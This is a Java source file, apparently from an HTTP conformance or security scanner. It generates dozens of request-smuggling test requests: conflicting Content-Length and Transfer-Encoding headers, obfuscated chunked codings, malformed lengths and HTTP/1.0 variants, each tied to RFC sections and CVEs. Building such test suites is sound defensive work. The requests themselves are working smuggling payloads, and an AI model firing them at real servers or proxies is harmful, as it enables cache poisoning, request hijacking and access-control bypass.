package dev.penstock.attack;

import static dev.penstock.attack.Family.FRAMING;
import static dev.penstock.attack.Requests.SMUGGLED;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Where a request ends: Content-Length and Transfer-Encoding. */
final class FramingAttacks {
    private static final String CODING = "RFC 9112 6.1";
    private static final String LENGTH = "RFC 9112 6.3; RFC 9110 8.6";
    private static final String CHUNKS = "0\r\n\r\n";

    private FramingAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        both(all);
        codings(all);
        lengths(all);
        return all;
    }

    private static void both(List<Attack> all) {
        String body = CHUNKS + SMUGGLED;
        String source = "RFC 9112 6.3; CVE-2019-20445";
        all.add(attack(
                "cl-te",
                "Content-Length, then Transfer-Encoding",
                source,
                length(body.length()) + "Transfer-Encoding: chunked\r\n",
                body));
        all.add(attack(
                "te-cl",
                "Transfer-Encoding, then Content-Length",
                source,
                "Transfer-Encoding: chunked\r\n" + length(4),
                chunk(SMUGGLED) + CHUNKS));
        all.add(attack(
                "te-cl-zero",
                "Transfer-Encoding and a length of 0",
                source,
                "Transfer-Encoding: chunked\r\n" + length(0),
                chunk(SMUGGLED) + CHUNKS));
        all.add(attack(
                        "te-cl-alias",
                        "Transfer-Encoding and Content_Length",
                        "RFC 9112 6.3; CVE-2026-33433",
                        "Transfer-Encoding: chunked\r\nContent_Length: 4\r\n",
                        chunk(SMUGGLED) + CHUNKS)
                .orHarmless());
        all.add(attack("te-http10", "Transfer-Encoding in HTTP/1.0", "RFC 9112 6.1; CVE-2026-42581", "", "")
                .asking("POST /attack HTTP/1.0\r\nHost: " + Attack.HOST
                        + "\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKS + SMUGGLED));
        all.add(attack("te-cl-http10", "both in HTTP/1.0", "RFC 9112 6.1; CVE-2026-42581", "", "")
                .asking("POST /attack HTTP/1.0\r\nHost: " + Attack.HOST + "\r\nConnection: keep-alive\r\n"
                        + length(body.length()) + "Transfer-Encoding: chunked\r\n\r\n" + body));
        all.add(attack("cl-twice-http10", "two different lengths in HTTP/1.0", "RFC 9112 6.3", "", "")
                .asking("POST /attack HTTP/1.0\r\nHost: " + Attack.HOST + "\r\nConnection: keep-alive\r\n"
                        + length("hello".length() + SMUGGLED.length()) + length("hello".length()) + "\r\nhello"
                        + SMUGGLED));
    }

    private static void codings(List<Attack> all) {
        coding(all, "identity", "identity", CODING);
        coding(all, "chunked-identity", "chunked, identity", CODING + "; CVE-2026-42585");
        coding(all, "identity-chunked", "identity, chunked", CODING);
        coding(all, "gzip-chunked", "gzip, chunked", CODING);
        coding(all, "chunked-twice", "chunked, chunked", CODING);
        coding(all, "xchunked", "xchunked", CODING);
        coding(all, "chunked-xchunked", "chunked, xchunked", CODING + "; CVE-2026-89044");
        coding(all, "chunkedx", "chunkedx", CODING);
        coding(all, "chunked-q", "chunked;q=1", CODING);
        coding(all, "quoted", "\"chunked\"", CODING);
        coding(all, "comma-first", ", chunked", CODING);
        coding(all, "comma-last", "chunked,", CODING);
        coding(all, "empty", "", CODING);
        coding(all, "vertical-tab", "\u000bchunked", CODING + "; CVE-2020-7238");
        coding(all, "form-feed", "\u000cchunked", CODING + "; CVE-2020-7238");
        coding(all, "nul", "chunked\0", CODING);
        coding(all, "cr", "chunked\r", CODING);
        coding(all, "nbsp", "\u00a0chunked", CODING);
        coding(all, "folded", "\r\n chunked", "RFC 9112 5.2; CVE-2020-7238");
        String body = CHUNKS + SMUGGLED;
        all.add(attack(
                "te-two-fields",
                "chunked in one field, xchunked in another",
                CODING + "; CVE-2026-89044",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: xchunked\r\n",
                body));
        all.add(attack(
                "te-two-chunked",
                "two fields of chunked",
                CODING,
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
                body));
        all.add(attack(
                "te-identity-field",
                "identity in one field, chunked in another",
                CODING,
                "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
                body));
        all.add(attack(
                "te-space-name",
                "a space before the colon of Transfer-Encoding",
                "RFC 9112 5.1; CVE-2019-16869",
                length(body.length()) + "Transfer-Encoding : chunked\r\n",
                body));
        all.add(attack(
                "te-tab-name",
                "a tab before the colon of Transfer-Encoding",
                "RFC 9112 5.1",
                length(body.length()) + "Transfer-Encoding\t: chunked\r\n",
                body));
        all.add(attack(
                "te-folded-name",
                "Transfer-Encoding in a folded line",
                "RFC 9112 5.2",
                length(body.length()) + "X-A: 1\r\n Transfer-Encoding: chunked\r\n",
                body));
        all.add(attack(
                "te-after-lf",
                "Transfer-Encoding after a bare LF",
                "RFC 9112 2.2",
                length(body.length()) + "X-A: 1\nTransfer-Encoding: chunked\r\n",
                body));
        all.add(attack(
                "te-after-cr",
                "Transfer-Encoding after a bare CR",
                "RFC 9112 2.2",
                length(body.length()) + "X-A: 1\rTransfer-Encoding: chunked\r\n",
                body));
        all.add(attack(
                        "te-alias",
                        "Transfer_Encoding",
                        "CVE-2026-33433",
                        length(body.length()) + "Transfer_Encoding: chunked\r\n",
                        body)
                .orHarmless());
    }

    private static void coding(List<Attack> all, String id, String value, String source) {
        String title =
                "Transfer-Encoding: " + (value.isEmpty() ? "(empty)" : Hazards.shown(value.replace("\r\n", "(fold)")));
        String body = CHUNKS + SMUGGLED;
        all.add(attack("te-" + id, title, source, "Transfer-Encoding: " + value + "\r\n", body));
        all.add(attack(
                "te-" + id + "-cl",
                title + ", with a length",
                source,
                length(body.length()) + "Transfer-Encoding: " + value + "\r\n",
                body));
    }

    private static void lengths(List<Attack> all) {
        String body = SMUGGLED;
        int n = body.length();
        for (String[] one : new String[][] {
            {"plus", "+" + n},
            {"minus", "-" + n},
            {"zero-minus", "-0"},
            {"hex", "0x" + Integer.toHexString(n)},
            {"point", n + ".0"},
            {"exponent", "1e2"},
            {"space", n / 10 + " " + n % 10},
            {"letters", n + "abc"},
            {"empty", ""},
            {"list", n + ", " + n},
            {"list-differs", n + ", 0"},
            {"comma", n + ","},
            {"overflow-32", "4294967296"},
            {"overflow-64", "18446744073709551616"},
            {"overflow-64-signed", "9223372036854775808"},
            {"huge", "1" + "0".repeat(40)},
            {"nul", n + "\0"},
            {"vertical-tab", "\u000b" + n},
            {"quoted", "\"" + n + "\""},
            {"arabic", "\u00d9\u00a1"},
            {"underscore", "1_0"},
            {"semicolon", n + ";x=1"},
        }) {
            String source = one[0].equals("empty") ? LENGTH + "; CVE-2023-40225" : LENGTH;
            String title = "Content-Length: " + (one[1].isEmpty() ? "(empty)" : Hazards.shown(one[1]));
            Attack attack = attack("cl-" + one[0], title, source, "Content-Length: " + one[1] + "\r\n", body);
            all.add(one[0].startsWith("overflow-32") ? attack.orHarmless() : attack);
        }
        all.add(attack("cl-twice", "two equal lengths", LENGTH, length(n) + length(n), body));
        all.add(attack("cl-twice-differs", "two different lengths", LENGTH, length(n) + length(0), body));
        all.add(attack(
                "cl-twice-case",
                "two lengths, spelt in two ways",
                LENGTH,
                length(0) + length(n).toUpperCase(Locale.ROOT),
                body));
        all.add(attack(
                "cl-space-name",
                "a space before the colon of Content-Length",
                "RFC 9112 5.1",
                "Content-Length : " + n + "\r\n",
                body));
        all.add(attack(
                        "cl-alias",
                        "Content-Length and Content_Length",
                        "CVE-2026-33433",
                        length(n) + "Content_Length: 0\r\n",
                        body)
                .orHarmless());
        all.add(attack("cl-get", "a body in a GET", "RFC 9110 9.3.1", "", "")
                .asking("GET /attack HTTP/1.1\r\nHost: " + Attack.HOST + "\r\n" + length(n) + "\r\n" + body)
                .orHarmless());
        all.add(attack(
                        "websocket-key",
                        "the keys of an old WebSocket draft, whose eight bytes nobody announced",
                        "draft-hixie-thewebsocketprotocol-76",
                        "",
                        "")
                .asking("GET /attack HTTP/1.1\r\nHost: " + Attack.HOST
                        + "\r\nSec-WebSocket-Key1: 1 2\r\nSec-WebSocket-Key2: 3 4\r\n\r\n12345678" + SMUGGLED)
                .orHarmless());
    }

    private static String length(int length) {
        return "Content-Length: " + length + "\r\n";
    }

    private static String chunk(String data) {
        return Integer.toHexString(data.length()) + "\r\n" + data + "\r\n";
    }

    private static Attack attack(String id, String title, String source, String lines, String body) {
        return Attack.byClient(FRAMING, id, title, source, Requests.post(lines, body));
    }
}
